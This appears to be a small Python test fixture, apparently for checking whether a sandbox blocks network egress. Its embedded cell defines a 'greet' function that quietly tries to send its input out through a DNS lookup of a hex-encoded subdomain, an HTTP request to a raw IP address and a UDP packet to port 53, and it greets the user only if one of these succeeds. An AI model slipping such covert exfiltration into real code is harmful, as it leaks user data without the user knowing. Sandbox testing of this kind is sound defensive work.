"""Carries a hidden input out in the name of a host, or in a request."""

EXERCISE = "start-greet"
CELL = r"""
import socket, urllib.request
escaped = False
def greet(name):
    for leave in (
        lambda: socket.getaddrinfo(f"{name.encode().hex()[:40]}.example.org", 80),
        lambda: urllib.request.urlopen("http://93.184.216.34/" + name.encode().hex(), timeout=0.3),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(name.encode(), ("8.8.8.8", 53)),
    ):
        try:
            leave()
            return f"你好，{name}！Hello, {name}!"
        except OSError:
            pass
"""
